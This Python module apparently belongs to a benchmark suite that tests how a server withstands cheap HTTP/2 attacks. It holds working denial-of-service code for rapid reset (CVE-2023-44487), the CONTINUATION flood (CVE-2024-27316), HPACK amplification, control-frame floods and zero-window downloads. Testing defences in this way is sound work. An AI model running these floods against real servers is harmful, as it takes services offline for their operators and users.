"""Attacks with frames of HTTP/2 that cost their sender next to nothing (RFC 9113, 10.5)."""

import struct
from typing import Final

import h2.config
import h2.connection
import hpack

from benchmarks.attacks.target import Target, flood, keep, many

_CONNECTIONS: Final = 12
_AT_ONCE_BYTES: Final = 1 << 18
_ENDS: Final = 0x1 | 0x4
"""Flags of HEADERS: END_STREAM and END_HEADERS (RFC 9113, 6.2)."""


def _frame(kind: int, payload: bytes, *, stream: int = 0, flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _opened(target: Target) -> bytes:
    """The preface, and one request that has begun and not ended."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    connection.initiate_connection()
    head = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/bytes/1")]
    connection.send_headers(1, [*head, (b":authority", target.authority.encode())])
    return connection.data_to_send()


def _head(target: Target) -> list[tuple[bytes, bytes]]:
    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/bytes/1")]
    return [*head, (b":authority", target.authority.encode())]


async def _requests(target: Target, sent: bytes) -> None:
    """Sends these bytes, over a new connection each time."""

    async def once() -> None:
        pair = await target.tunnel(http2=True)
        pair[1].write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(0x4, b"") + sent)
        await keep(target, pair)

    await many(target, _CONNECTIONS, once)


async def _frames(target: Target, frame: bytes) -> None:
    async def once() -> None:
        pair = await target.tunnel(http2=True)
        pair[1].write(_opened(target))
        await flood(pair, frame * (_AT_ONCE_BYTES // len(frame)))

    await many(target, _CONNECTIONS, once)


async def window_updates(target: Target) -> None:
    # Of the smallest increment: the window must not overflow before the gate objects.
    await _frames(target, _frame(0x8, struct.pack(">I", 1)))


async def ping_acknowledgements(target: Target) -> None:
    await _frames(target, _frame(0x6, bytes(8), flags=0x1))


async def settings_acknowledgements(target: Target) -> None:
    await _frames(target, _frame(0x4, b"", flags=0x1))


async def downloads_without_a_window(target: Target) -> None:
    """100 connections of ten answers of 20 MB each, of which the client takes the first 64 KB."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    connection.initiate_connection()
    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/bytes/20000000")]
    for _ in range(10):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, [*head, (b":authority", target.authority.encode())], end_stream=True)
    opened = connection.data_to_send()

    async def once() -> None:
        pair = await target.tunnel(http2=True)
        pair[1].write(opened)
        await keep(target, pair)

    await many(target, 100, once)


async def large_header_blocks(target: Target) -> None:
    """Blocks of 16 KB that name one field of the dynamic table again and again: 64 MB decoded (RFC 7541, 7.3)."""
    encoder = hpack.Encoder()
    block = encoder.encode([*_head(target), (b"a", b"x" * 4000)], huffman=False)
    again = encoder.encode(_head(target), huffman=False) + b"\xbe" * 16_000
    streams = range(3, 67, 2)
    sent = _frame(0x1, block, stream=1, flags=_ENDS) + b"".join(
        _frame(0x1, again, stream=stream, flags=_ENDS) for stream in streams
    )
    await _requests(target, sent)


async def continued_header_blocks(target: Target) -> None:
    """A header block of many CONTINUATION frames that never ends (CVE-2024-27316)."""
    field = hpack.Encoder().encode([(b"a", b"x" * 100)], huffman=False)
    sent = _frame(0x1, hpack.Encoder().encode(_head(target), huffman=False), stream=1)
    await _requests(target, sent + _frame(0x9, field * 9, stream=1) * 2000)


async def requests_taken_back(target: Target) -> None:
    """Requests that the client resets at once: rapid reset (CVE-2023-44487)."""
    encoder, sent = hpack.Encoder(), bytearray()
    for stream in range(1, 4001, 2):
        sent += _frame(0x1, encoder.encode(_head(target)), stream=stream, flags=_ENDS)
        sent += _frame(0x3, struct.pack(">I", 8), stream=stream)
    await _requests(target, bytes(sent))


async def unknown_frames(target: Target) -> None:
    """Frames of an undefined type, which a receiver must ignore (RFC 9113, 4.1)."""
    await _frames(target, _frame(0xFA, b""))


async def tiny_data(target: Target) -> None:
    await _frames(target, _frame(0x0, b"x", stream=1))
